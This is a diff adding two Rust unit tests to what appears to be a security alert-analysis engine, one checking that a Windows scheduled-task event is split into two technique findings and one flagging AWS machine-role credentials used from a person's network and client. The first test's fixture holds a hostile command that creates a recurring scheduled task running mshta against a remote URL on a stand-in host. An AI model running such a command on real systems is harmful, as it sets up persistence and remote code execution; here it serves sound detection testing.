@@ -264,3 +264,52 @@ fn an_account_that_signs_in_from_one_network_after_the_other_is_in_several_hands
     assert_eq!(told(&four("203.0.200.1", 15)), 0, "three networks");
     assert_eq!(told(&four("8.8.4.4", 55)), 0, "not within half an hour of the alerted one");
 }
+
+#[test]
+fn two_kinds_of_behaviour_of_the_alerted_act_are_two_findings() {
+    let told = |command: &str| {
+        let fields = [
+            ("EventID", "4688"),
+            ("NewProcessName", r"C:\Windows\System32\schtasks.exe"),
+            ("ParentProcessName", r"C:\Windows\System32\mshta.exe"),
+            ("CommandLine", command),
+            ("SubjectUserName", "mara"),
+            ("Computer", "PC1"),
+        ];
+        let raw = fields.iter().map(|(name, value)| format!("{name}: {value}\n")).collect::<String>();
+        let all = told(&[record(5, "2026-03-01T10:00:00Z", &raw, &fields)]);
+        assert!(all.iter().all(|f| f.citations == all[0].citations && f.about_alert), "{all:?}");
+        all.into_iter().filter_map(|f| f.technique).collect::<Vec<_>>()
+    };
+    let both = told(r#"schtasks /create /sc minute /tn a /tr "mshta https://a.example/b.txt" /f"#);
+    assert_eq!(both.len(), 2, "{both:?}");
+    let bases: BTreeSet<&str> = both.iter().map(|t| t.split('.').next().unwrap()).collect();
+    assert_eq!(bases.len(), 2, "{both:?}");
+    assert!(told("schtasks /query").len() <= 1);
+}
+
+#[test]
+fn credentials_of_a_machine_that_work_where_a_person_works_are_in_the_persons_hands() {
+    let call = |line: u64, arn: &str, kind: &str, address: &str, agent: &str, action: &str| {
+        let fields = [
+            ("eventSource", "sts.amazonaws.com"),
+            ("eventName", action),
+            ("userIdentity.arn", arn),
+            ("userIdentity.type", kind),
+            ("sourceIPAddress", address),
+            ("userAgent", agent),
+        ];
+        let raw = fields.iter().map(|(name, value)| format!("{name}: {value}\n")).collect::<String>();
+        record(line, &format!("2026-03-01T10:00:0{line}Z"), &raw, &fields)
+    };
+    let person = call(5, "arn:aws:iam::1:user/mara", "IAMUser", "203.0.113.9", "cli/2", "SendCommand");
+    let role = "arn:aws:sts::1:assumed-role/web/i-0123456789abcdef0";
+    let marked = |address, agent| {
+        let machine = call(6, role, "AssumedRole", address, agent, "DescribeInstances");
+        let all = told(&[person.clone(), machine]);
+        all.iter().any(|f| f.claim.contains("used from where a person works") && f.weight == Weight::Strong)
+    };
+    assert!(marked("203.0.113.9", "cli/2"));
+    assert!(!marked("203.0.113.9", "agent/1"), "a way out that a network shares");
+    assert!(!marked("198.51.100.7", "cli/2"), "the machine itself");
+}
